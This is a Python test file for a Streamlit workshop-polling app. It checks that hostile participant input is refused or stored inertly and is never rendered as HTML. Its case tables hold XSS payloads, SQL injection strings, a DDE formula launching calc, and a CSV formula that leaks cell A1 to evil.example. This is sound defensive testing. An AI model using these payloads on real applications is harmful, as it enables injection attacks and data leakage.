@@ -1,0 +1,678 @@
+"""Hostile input, table-driven: through the services, then through the phone's join page.
+
+Every input either gets a refusal a person can read (a ``WorkshopError``) or is stored as
+inert text, read back exactly as ``clean_text`` makes it; nothing else may escape. The
+join page (AppTest) never shows a traceback, always says something, and shows
+participant text only as plain text (``st.text``), never as HTML or Markdown.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from tests.support.builders import make_session, make_template
+from tests.support.postgres import create_database
+from workshop import services
+from workshop.domain.codes import is_plausible_token, new_participant_token
+from workshop.domain.errors import (
+    AccessDenied,
+    InvalidAnswer,
+    NotFound,
+    PromptClosed,
+    PromptMoved,
+    SessionEnded,
+    SessionNotFound,
+    WorkshopError,
+)
+from workshop.domain.model import Answer, PromptKind, PromptSpec
+from workshop.domain.text import clean_text
+from workshop.storage import Database, make_database
+
+ROOT = Path(__file__).resolve().parents[2]
+_db_numbers = itertools.count(1)
+
+HOSTILE_TEMPLATE = make_template(
+    PromptSpec(kind=PromptKind.OPEN_TEXT, text="Say anything", max_length=280),
+    PromptSpec(kind=PromptKind.WORD_CLOUD, text="Three words", max_words=3, max_entries=3),
+    PromptSpec(kind=PromptKind.SINGLE_CHOICE, text="Pick one", options=("Yes", "No")),
+    PromptSpec(
+        kind=PromptKind.MULTIPLE_CHOICE, text="Pick some", options=("X", "Y", "Z"), max_choices=2
+    ),
+    PromptSpec(kind=PromptKind.SCALE, text="Rate it", scale_min=1, scale_max=5),
+    title="Hostile room",
+)
+POSITION = {
+    PromptKind.OPEN_TEXT: 0,
+    PromptKind.WORD_CLOUD: 1,
+    PromptKind.SINGLE_CHOICE: 2,
+    PromptKind.MULTIPLE_CHOICE: 3,
+    PromptKind.SCALE: 4,
+}
+
+# ---- the texts people (or scripts) send --------------------------------------------------
+
+FAMILY_ZWJ = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
+RAINBOW_FLAG = "\U0001f3f3\ufe0f\u200d\U0001f308"
+IMG_ONERROR = "<img src=x onerror=alert(1)>"
+SCRIPT = "<script>alert(1)</script>"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
+DDE = "=cmd|' /C calc'!A0"
+SQL_DROP = "'); DROP TABLE answers;--"
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+_NEW = object()  # "a fresh, valid participant token"
+
+
+@dataclass
+class HostileRoom:
+    """One database with a live session (one prompt per kind), a second live session and
+    an ended one, shared by every case of a backend."""
+
+    db: Database
+    secret: bytes
+    live: services.StartedSession
+    other: services.StartedSession
+    ended: services.StartedSession
+    last_token: Any = None
+
+    @property
+    def sid(self) -> int:
+        return self.live.session.id
+
+    def prompt_id(self, kind: PromptKind, started: services.StartedSession | None = None) -> int:
+        started = started or self.live
+        prompts = services.list_prompts(db=self.db, session_id=started.session.id)
+        return prompts[POSITION[kind]].id
+
+    def go_to(self, kind: PromptKind, started: services.StartedSession | None = None) -> None:
+        started = started or self.live
+        services.go_to_prompt(
+            db=self.db,
+            session_id=started.session.id,
+            key=started.facilitator_key,
+            position=POSITION[kind],
+        )
+
+    def submit(
+        self,
+        kind: PromptKind,
+        raw: object,
+        *,
+        token: Any = _NEW,
+        prompt_id: Any = None,
+        session_id: Any = None,
+    ) -> Answer:
+        """Answer the live session's prompt of ``kind`` (made current) as a new participant."""
+        self.go_to(kind)
+        self.last_token = new_participant_token() if token is _NEW else token
+        return services.submit_answer(
+            db=self.db,
+            secret=self.secret,
+            session_id=self.sid if session_id is None else session_id,
+            prompt_id=self.prompt_id(kind) if prompt_id is None else prompt_id,
+            token=self.last_token,
+            raw=raw,
+        )
+
+    def fresh_session(self) -> services.StartedSession:
+        return make_session(self.db, HOSTILE_TEMPLATE)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One hostile input: what is tried, and the refusal expected (None: stored inert)."""
+
+    id: str
+    act: Callable[[HostileRoom], Any] = field(repr=False)
+    refused: type[WorkshopError] | None = None
+    stored: Any = None  # the value read back when accepted
+
+
+def text(id: str, raw: Any, refused: type[WorkshopError] | None = None) -> Hostile:
+    """Open text: refused, or stored exactly as ``clean_text`` (newlines kept) makes it."""
+    expected = None if refused else clean_text(raw, keep_newlines=True)
+    return Hostile(id, lambda room: room.submit(PromptKind.OPEN_TEXT, raw), refused, expected)
+
+
+def answer(
+    id: str, kind: PromptKind, raw: Any, refused: type[WorkshopError] | None = None, stored=None
+) -> Hostile:
+    return Hostile(id, lambda room: room.submit(kind, raw), refused, stored)
+
+
+def join(id: str, code: Callable[[HostileRoom], Any], refused: type[WorkshopError]) -> Hostile:
+    def act(room: HostileRoom) -> Any:
+        return services.join_session(
+            db=room.db, secret=room.secret, code=code(room), token=new_participant_token()
+        )
+
+    return Hostile(id, act, refused)
+
+
+def token(id: str, forged: Any) -> Hostile:
+    """A forged participant ticket, on an answer that would otherwise be fine."""
+
+    def act(room: HostileRoom) -> Any:
+        return room.submit(PromptKind.SINGLE_CHOICE, "Yes", token=forged)
+
+    return Hostile(id, act, AccessDenied)
+
+
+def _other_sessions_prompt(room: HostileRoom) -> Answer:
+    room.go_to(PromptKind.OPEN_TEXT, room.other)  # open and current over there
+    return room.submit(
+        PromptKind.OPEN_TEXT,
+        "cross-session",
+        prompt_id=room.prompt_id(PromptKind.OPEN_TEXT, room.other),
+    )
+
+
+def _replay(change: Callable[[HostileRoom, services.StartedSession], None]) -> Callable:
+    """A submit that the phone sent for prompt 1, replayed after ``change`` happened."""
+
+    def act(room: HostileRoom) -> Answer:
+        started = room.fresh_session()
+        first = services.list_prompts(db=room.db, session_id=started.session.id)[0]
+        token = new_participant_token()
+        room.last_token = token
+
+        def send() -> Answer:
+            return services.submit_answer(
+                db=room.db,
+                secret=room.secret,
+                session_id=started.session.id,
+                prompt_id=first.id,
+                token=token,
+                raw="the same answer again",
+            )
+
+        send()  # accepted while open
+        change(room, started)
+        return send()
+
+    return act
+
+
+def _close(room: HostileRoom, started: services.StartedSession) -> None:
+    services.set_answering_open(
+        db=room.db, session_id=started.session.id, key=started.facilitator_key, is_open=False
+    )
+
+
+def _advance(room: HostileRoom, started: services.StartedSession) -> None:
+    services.next_prompt(db=room.db, session_id=started.session.id, key=started.facilitator_key)
+
+
+def _end(room: HostileRoom, started: services.StartedSession) -> None:
+    services.end_session(db=room.db, session_id=started.session.id, key=started.facilitator_key)
+
+
+def _delete(room: HostileRoom, started: services.StartedSession) -> None:
+    services.delete_session(db=room.db, session_id=started.session.id, key=started.facilitator_key)
+
+
+OPEN, WORDS, SINGLE, MULTI, SCALE = (
+    PromptKind.OPEN_TEXT,
+    PromptKind.WORD_CLOUD,
+    PromptKind.SINGLE_CHOICE,
+    PromptKind.MULTIPLE_CHOICE,
+    PromptKind.SCALE,
+)
+
+CASES: list[Hostile] = [
+    # -- open text: emptiness, size, invisible and control characters
+    text("empty", "", InvalidAnswer),
+    text("whitespace-only", " \t \n\r\n \u00a0 \u3000 ", InvalidAnswer),
+    text("100kB-ascii", "x" * 100_000, InvalidAnswer),
+    text("100kB-emoji", "\U0001f44d" * 25_000, InvalidAnswer),
+    text("one-over-the-limit", "y" * 281, InvalidAnswer),
+    text("newline-flood", "a" + "\n" * 5_000 + "b"),
+    text("control-characters", "ring\x07 the\x1b[31m bell\x7f\x85 now\x9b"),
+    text("nul-byte", "null\x00byte"),
+    text("only-control-characters", "\x00\x01\x1b\x7f\x9f", InvalidAnswer),
+    text("rtl-override", "invoice\u202egnp.exe"),
+    text("bidi-isolates", "\u2067abc\u2069 and \u202adef\u202c"),
+    text("emoji-zwj", f"family {FAMILY_ZWJ} and {RAINBOW_FLAG}"),
+    text("zero-width-only", "\u200b\u200d\u2060\ufeff", InvalidAnswer),
+    text("hangul-filler-only", "\u3164 \u3164", InvalidAnswer),
+    text("lone-surrogate", "broken \ud83d text"),
+    # -- markup and code, kept as inert text
+    text("html", "<b>bold</b> & <i>italic</i>"),
+    text("script-tag", SCRIPT),
+    text("img-onerror", IMG_ONERROR),
+    text("svg-onload", '<svg/onload=alert("x")>'),
+    text("markdown-js-link", "[link](javascript:alert(1))"),
+    text("markdown-image", "![img](x)"),
+    text("streamlit-directives", ":red[alert] :material/warning: $x^2$ **bold**"),
+    text("template-injection", "{{7*7}} ${7*7} %s %(x)s {0}"),
+    text("hyperlink-formula", HYPERLINK),
+    text("dde-formula", DDE),
+    text("at-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    text("sql-drop", SQL_DROP),
+    text("sql-or", "1' OR '1'='1"),
+    # -- wrong types for open text
+    text("none", None, InvalidAnswer),
+    answer("int-for-text", OPEN, 42, InvalidAnswer),
+    answer("list-for-text", OPEN, ["a", "b"], InvalidAnswer),
+    answer("dict-for-text", OPEN, {"text": "hi"}, InvalidAnswer),
+    answer("bytes-for-text", OPEN, b"bytes", InvalidAnswer),
+    # -- word cloud
+    answer("words-script", WORDS, [SCRIPT], stored=[SCRIPT]),
+    answer("words-dde", WORDS, [DDE], stored=[DDE]),
+    answer("words-too-many-entries", WORDS, "a,b,c,d", InvalidAnswer),
+    answer("words-entry-too-long", WORDS, ["x" * 61], InvalidAnswer),
+    answer("words-ten-thousand", WORDS, ["w"] * 10_000, InvalidAnswer),
+    answer("words-wrong-types", WORDS, [None, 5], InvalidAnswer),
+    answer("words-dict", WORDS, {"a": 1}, InvalidAnswer),
+    # -- choices and scales
+    answer("choice-script", SINGLE, SCRIPT, InvalidAnswer),
+    answer("choice-with-nul", SINGLE, "Yes\x00", InvalidAnswer),
+    answer("choice-two-at-once", SINGLE, ["Yes", "No"], InvalidAnswer),
+    answer("choice-dict", SINGLE, {"Yes": 1}, InvalidAnswer),
+    answer("choice-padded", SINGLE, "  Yes ", stored="Yes"),
+    answer("multi-repeated", MULTI, ["X"] * 10_000, stored=["X"]),
+    answer("multi-too-many", MULTI, ["X", "Y", "Z"], InvalidAnswer),
+    answer("multi-ints", MULTI, [1, 2], InvalidAnswer),
+    answer("scale-sql", SCALE, "3; DROP TABLE answers", InvalidAnswer),
+    answer("scale-bool", SCALE, True, InvalidAnswer),
+    answer("scale-float", SCALE, 3.7, InvalidAnswer),
+    answer("scale-nan", SCALE, float("nan"), InvalidAnswer),
+    answer("scale-huge", SCALE, 10**100, InvalidAnswer),
+    answer("scale-exponent", SCALE, "1e3", InvalidAnswer),
+    answer("scale-arabic-indic-digit", SCALE, "\u0663", stored=3),
+    # -- join codes
+    join("code-malformed", lambda room: "K7Q", SessionNotFound),
+    join("code-unknown", lambda room: "ZZZ-ZZZ", SessionNotFound),
+    join("code-ended", lambda room: room.ended.session.code, SessionEnded),
+    join("code-sql", lambda room: "'; DROP TABLE sessions;--", SessionNotFound),
+    join("code-script", lambda room: SCRIPT, SessionNotFound),
+    join("code-markdown-link", lambda room: "[click](https://evil.example)", SessionNotFound),
+    join("code-100kB", lambda room: "Z" * 100_000, SessionNotFound),
+    join("code-control-characters", lambda room: "K7Q\x00\x1b4MX", SessionNotFound),
+    join("code-none", lambda room: None, SessionNotFound),
+    join("code-int", lambda room: 123456, SessionNotFound),
+    join("code-list", lambda room: [room.live.session.code], SessionNotFound),
+    # -- forged participant tickets
+    token("token-none", None),
+    token("token-empty", ""),
+    token("token-too-short", "abc123"),
+    token("token-too-long", "a" * 65),
+    token("token-100kB", "t" * 100_000),
+    token("token-jwt-style", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
+    token("token-with-nul", "abcdefghijklmnop\x00qrst"),
+    token("token-with-newline", "abcdefghijklmnopqrst\n"),
+    token("token-sql", "x' OR '1'='1' --aaaaaa"),
+    token("token-int", 12345678901234567890),
+    token("token-bytes", b"abcdefghijklmnopqrstuvwx"),
+    # -- answers aimed elsewhere, and replays
+    Hostile("other-sessions-prompt", _other_sessions_prompt, NotFound),
+    Hostile(
+        "prompt-that-does-not-exist",
+        lambda room: room.submit(OPEN, "hello", prompt_id=10**9),
+        NotFound,
+    ),
+    Hostile("prompt-id-huge", lambda room: room.submit(OPEN, "hello", prompt_id=2**70), NotFound),
+    Hostile("prompt-id-negative", lambda room: room.submit(OPEN, "hello", prompt_id=-1), NotFound),
+    Hostile("prompt-id-text", lambda room: room.submit(OPEN, "hello", prompt_id="1"), NotFound),
+    Hostile("session-id-huge", lambda room: room.submit(OPEN, "hello", session_id=2**70), NotFound),
+    Hostile("replay-after-close", _replay(_close), PromptClosed),
+    Hostile("replay-after-moving-on", _replay(_advance), PromptMoved),
+    Hostile("replay-after-the-end", _replay(_end), SessionEnded),
+    Hostile("replay-after-delete", _replay(_delete), NotFound),
+]
+
+
+@pytest.fixture(
+    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
+)
+def hostile_room(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[HostileRoom]:
+    if request.param == "sqlite":
+        url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'workshop.db'}"
+    else:
+        admin = request.getfixturevalue("postgres_admin_url")
+        url = create_database(admin, f"hostile_{next(_db_numbers)}")
+    db = make_database(url)
+    live = make_session(db, HOSTILE_TEMPLATE)
+    other = make_session(db, HOSTILE_TEMPLATE)
+    ended = make_session(db, HOSTILE_TEMPLATE)
+    _end(HostileRoom(db, b"", live, other, ended), ended)
+    yield HostileRoom(db, b"hostile-secret", live, other, ended)
+    db.dispose()
+
+
+def test_the_table_is_big_enough():
+    assert len(CASES) >= 30
+    assert len({c.id for c in CASES}) == len(CASES)
+
+
+def assert_plain_message(message: str) -> None:
+    """A sentence for a person: present, short, one line, no programmer's words."""
+    assert message.strip(), "an empty refusal"
+    assert len(message) <= 300 and "\n" not in message, message
+    for leak in ("Traceback", "Error(", "sqlalchemy", "sqlite3", "psycopg", "None"):
+        assert leak not in message, message
+
+
+def stored_answer(room: HostileRoom, answer: Answer) -> Answer:
+    found = services.list_answers(
+        db=room.db,
+        session_id=room.sid,
+        prompt_id=answer.prompt_id,
+        include_hidden=True,
+    )
+    by_id = {a.id: a for a in found}
+    assert answer.id in by_id, "acknowledged but not stored"
+    return by_id[answer.id]
+
+
+def csv_answer_cells(room: HostileRoom) -> list[str]:
+    data = services.export_csv(db=room.db, session_id=room.sid).decode("utf-8-sig")
+    return [row["answer"] for row in csv.DictReader(io.StringIO(data))]
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
+def test_hostile_input_through_the_services(hostile_room: HostileRoom, case: Hostile):
+    room = hostile_room
+    room.last_token = None
+    try:
+        result = case.act(room)
+    except WorkshopError as error:  # anything else escapes and fails the test: a crash
+        assert case.refused is not None, f"refused although it should be stored: {error}"
+        assert isinstance(error, case.refused), f"{type(error).__name__}: {error}"
+        assert_plain_message(str(error))
+        if is_plausible_token(room.last_token):
+            assert_nothing_stored_for(room, room.last_token)
+        return
+    assert case.refused is None, f"accepted, expected {case.refused.__name__}: {result!r}"
+    assert isinstance(result, Answer)
+    stored = stored_answer(room, result)
+    assert result.value == case.stored, "acknowledged value differs from the clean text"
+    assert stored.value == case.stored, "stored value differs from what was acknowledged"
+    if isinstance(stored.value, str) and stored.value.startswith(FORMULA_STARTS):
+        # the spreadsheet sees text, never a formula
+        assert "'" + stored.value in csv_answer_cells(room)
+    # a SQL fragment stayed a string: the tables are all still there and counting
+    assert services.get_live_view(db=room.db, session_id=room.sid).counts.answered >= 1
+
+
+def assert_nothing_stored_for(room: HostileRoom, token: str) -> None:
+    for prompt in services.list_prompts(db=room.db, session_id=room.sid):
+        mine = services.find_my_answer(
+            db=room.db, secret=room.secret, session_id=room.sid, prompt_id=prompt.id, token=token
+        )
+        assert mine is None
+
+
+def test_a_well_formed_token_that_is_not_yours_makes_a_new_participant(sqlite_db, secret):
+    """A ticket in the same style as someone else's cannot touch their answer."""
+    started = make_session(sqlite_db, HOSTILE_TEMPLATE)
+    sid = started.session.id
+    prompt = services.list_prompts(db=sqlite_db, session_id=sid)[0]
+    theirs = new_participant_token()
+    services.submit_answer(
+        db=sqlite_db, secret=secret, session_id=sid, prompt_id=prompt.id, token=theirs, raw="mine"
+    )
+    lookalike = theirs[:-1] + ("A" if theirs[-1] != "A" else "B")  # one character off
+    services.submit_answer(
+        db=sqlite_db, secret=secret, session_id=sid, prompt_id=prompt.id, token=lookalike, raw="x"
+    )
+    values = sorted(
+        a.value for a in services.list_answers(db=sqlite_db, session_id=sid, prompt_id=prompt.id)
+    )
+    assert values == ["mine", "x"]
+    assert services.get_live_view(db=sqlite_db, session_id=sid).counts.joined == 2
+
+
+# ---- the same through the phone's join page (AppTest) -------------------------------------
+
+PAGE_SECRET = "hostile-page-installation-secret"
+PAGE_TEMPLATE = make_template(
+    PromptSpec(kind=PromptKind.OPEN_TEXT, text="Say anything", max_length=280),
+    PromptSpec(kind=PromptKind.WORD_CLOUD, text="Three words", max_words=3, max_entries=3),
+    title="Hostile page",
+)
+# Elements that may carry participant text: plain text, and Markdown that allows no HTML.
+HTML_CAPABLE = ("html", "bidi_component", "iframe", "json")
+
+
+@dataclass
+class PageRoom:
+    db: Database
+    started: services.StartedSession
+
+    @property
+    def code(self) -> str:
+        return self.started.session.code
+
+    def answers(self, position: int) -> list[Answer]:
+        prompt = services.list_prompts(db=self.db, session_id=self.started.session.id)[position]
+        return services.list_answers(
+            db=self.db, session_id=self.started.session.id, prompt_id=prompt.id
+        )
+
+    def facilitator(self, action: Callable[..., Any], **kwargs: Any) -> None:
+        action(
+            db=self.db,
+            session_id=self.started.session.id,
+            key=self.started.facilitator_key,
+            **kwargs,
+        )
+
+
+@pytest.fixture(scope="module")
+def page_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
+    data_dir = tmp_path_factory.mktemp("hostile-page")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("WORKSHOP_DATA_DIR", str(data_dir))
+        patch.setenv("WORKSHOP_SECRET_KEY", PAGE_SECRET)
+        for name in ("WORKSHOP_DATABASE_URL", "WORKSHOP_PROFANITY_WORDS", "WORKSHOP_PUBLIC_URL"):
+            patch.delenv(name, raising=False)
+        db = make_database(f"sqlite:///{data_dir / 'workshop.db'}")
+        yield db
+        db.dispose()
+
+
+@pytest.fixture
+def page_room(page_db: Database) -> PageRoom:
+    return PageRoom(page_db, make_session(page_db, PAGE_TEMPLATE))
+
+
+def open_phone(query: dict[str, str]) -> AppTest:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
+    at.run()
+    at.switch_page("pages/join.py")
+    for name, value in query.items():
+        at.query_params[name] = value
+    return at.run()
+
+
+def tap(at: AppTest, *labels: str) -> AppTest:
+    button = next(b for b in at.button if b.label in labels)
+    return button.click().run()
+
+
+def leaves(node: Any) -> Iterator[Any]:
+    children = getattr(node, "children", None)
+    if isinstance(children, dict):
+        for child in children.values():
+            yield from leaves(child)
+    else:
+        yield node
+
+
+def shown_messages(at: AppTest) -> list[str]:
+    kinds = (at.error, at.warning, at.success, at.info, at.title, at.subheader)
+    return [m.value for kind in kinds for m in kind]
+
+
+def assert_shown_inertly(at: AppTest, *needles: str) -> None:
+    """No traceback, something said, and participant text never where HTML renders."""
+    assert not at.exception, [e.value for e in at.exception]
+    assert shown_messages(at), "the page said nothing"
+    needles = tuple(n for n in needles if n and len(n) >= 3)
+    for node in leaves(at.main):
+        proto = getattr(node, "proto", None)
+        if proto is None:
+            continue
+        kind = getattr(node, "type", "")
+        dump = str(proto)
+        if kind in HTML_CAPABLE or getattr(proto, "allow_html", False):
+            for needle in needles:
+                assert needle[:40] not in dump, f"participant text inside {kind}: {needle!r}"
+
+
+@dataclass(frozen=True)
+class PageCase:
+    id: str
+    typed: Any = None  # into the open-text box (a str) or the word boxes (a list)
+    query: Callable[[PageRoom], dict[str, str]] = field(
+        default=lambda room: {"code": room.code}, repr=False
+    )
+    before_send: Callable[[PageRoom], None] | None = field(default=None, repr=False)
+    expect: str = "stored"  # stored | refused | no-session | ended | joined | not-taken
+
+
+def typed_text(id: str, raw: str, expect: str = "stored") -> PageCase:
+    return PageCase(id, typed=raw, expect=expect)
+
+
+def code_case(id: str, code: str, expect: str = "no-session") -> PageCase:
+    return PageCase(id, query=lambda room: {"code": code}, expect=expect)
+
+
+def token_case(id: str, forged: str) -> PageCase:
+    return PageCase(id, query=lambda room: {"code": room.code, "p": forged}, expect="joined")
+
+
+PAGE_CASES: list[PageCase] = [
+    typed_text("empty", "", "refused"),
+    typed_text("whitespace-only", " \t \n \u00a0 ", "refused"),
+    typed_text("100kB", "x" * 100_000, "refused"),
+    typed_text("control-characters", "ring\x07 the\x1b[31m bell\x7f"),
+    typed_text("nul-byte", "null\x00byte"),
+    typed_text("only-control-characters", "\x00\x01\x1b", "refused"),
+    typed_text("rtl-override", "invoice\u202egnp.exe"),
+    typed_text("emoji-zwj", f"family {FAMILY_ZWJ} and {RAINBOW_FLAG}"),
+    typed_text("zero-width-only", "\u200b\u200d\u2060", "refused"),
+    typed_text("html", "<b>bold</b> & <i>italic</i>"),
+    typed_text("script-tag", SCRIPT),
+    typed_text("img-onerror", IMG_ONERROR),
+    typed_text("markdown-js-link", "[link](javascript:alert(1))"),
+    typed_text("markdown-image", "![img](x)"),
+    typed_text("streamlit-directives", ":red[alert] :material/warning: $x^2$"),
+    typed_text("hyperlink-formula", HYPERLINK),
+    typed_text("dde-formula", DDE),
+    typed_text("sql-drop", SQL_DROP),
+    PageCase("words-script", typed=[SCRIPT, IMG_ONERROR, ""]),
+    PageCase("words-markdown", typed=["[x](javascript:alert(1))", "![i](x)", "**b**"]),
+    PageCase("words-too-many-words", typed=["<b>one two three four</b>", "", ""], expect="refused"),
+    code_case("code-malformed", "K7Q"),
+    code_case("code-unknown", "ZZZ-ZZZ"),
+    code_case("code-script", SCRIPT),
+    code_case("code-markdown-link", "[go](//3232235777)"),
+    code_case("code-sql", "'; DROP TABLE sessions;--"),
+    code_case("code-100kB", "Z" * 100_000),
+    code_case("code-control-characters", "K7Q\x00\x1b4MX"),
+    code_case("code-directive", ":red[HELLO]"),
+    token_case("token-script", SCRIPT),
+    token_case("token-too-long", "a" * 65),
+    token_case("token-100kB", "t" * 100_000),
+    token_case("token-jwt-style", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
+    token_case("token-sql", "x' OR '1'='1' --aaaaaa"),
+    PageCase(
+        "replay-after-close",
+        typed="sent as answering closed",
+        before_send=lambda room: room.facilitator(services.set_answering_open, is_open=False),
+        expect="not-taken",
+    ),
+    PageCase(
+        "replay-after-moving-on",
+        typed="sent as the room moved on",
+        before_send=lambda room: room.facilitator(services.next_prompt),
+        expect="not-taken",
+    ),
+    PageCase(
+        "replay-after-the-end",
+        typed="sent as the session ended",
+        before_send=lambda room: room.facilitator(services.end_session),
+        expect="ended",
+    ),
+]
+
+
+def test_the_page_table_is_big_enough():
+    assert len(PAGE_CASES) >= 30
+    assert len({c.id for c in PAGE_CASES}) == len(PAGE_CASES)
+
+
+def fill(at: AppTest, typed: Any) -> None:
+    if isinstance(typed, list):
+        for i, entry in enumerate(typed):
+            at.text_input(key=f"phone_word_{i}").input(entry)
+    else:
+        at.text_area[0].input(typed)
+
+
+@pytest.mark.parametrize("case", PAGE_CASES, ids=lambda case: case.id)
+def test_hostile_input_through_the_join_page(page_room: PageRoom, case: PageCase):
+    room = page_room
+    position = 1 if isinstance(case.typed, list) else 0
+    if position:
+        room.facilitator(services.go_to_prompt, position=position)
+    query = case.query(room)
+    at = open_phone(query)
+    needles = [v for v in query.values() if v != room.code]
+    if case.typed is not None:
+        fill(at, case.typed)
+        if case.before_send is not None:
+            case.before_send(room)
+        at = tap(at, "Send my answer")
+        typed = case.typed if isinstance(case.typed, list) else [case.typed]
+        needles += typed + [clean_text(t, keep_newlines=True) for t in typed]
+    assert_shown_inertly(at, *needles)
+
+    stored = room.answers(position) if case.expect != "ended" else []
+    errors = [e.value for e in at.error]
+    if case.expect == "stored":
+        assert any("Received" in m for m in shown_messages(at)), shown_messages(at)
+        if isinstance(case.typed, list):
+            expected: Any = [clean_text(t) for t in case.typed if clean_text(t)]
+            shown = "\n".join(expected)
+        else:
+            expected = clean_text(case.typed, keep_newlines=True)
+            shown = expected
+        assert [a.value for a in stored] == [expected]
+        assert shown in [t.value for t in at.text], "their answer is not shown back as text"
+    elif case.expect == "refused":
+        assert len(errors) == 1 and errors[0], shown_messages(at)
+        assert stored == []
+    elif case.expect == "no-session":
+        assert len(errors) == 1 and errors[0].startswith("No session with code"), errors
+        code_shown = errors[0].removeprefix("No session with code ").split(" — ")[0]
+        assert code_shown == "(empty)" or code_shown.isalnum(), errors[0]
+        assert at.text_input(key="phone_code") is not None  # and offers to type the code
+    elif case.expect == "joined":
+        assert [s.value for s in at.subheader] == ["Say anything"]
+        token = at.query_params["p"]
+        token = token[0] if isinstance(token, list) else token
+        assert is_plausible_token(token) and token != query["p"]  # a fresh ticket
+    elif case.expect == "not-taken":
+        assert any("not taken" in m or "moved on" in m for m in shown_messages(at))
+        assert room.answers(0) == [] and room.answers(1) == []
+    elif case.expect == "ended":
+        assert [t.value for t in at.title] == ["Thank you!"]
+        assert room.answers(0) == []
+    else:  # pragma: no cover - a typo in the table
+        pytest.fail(f"unknown expectation {case.expect}")
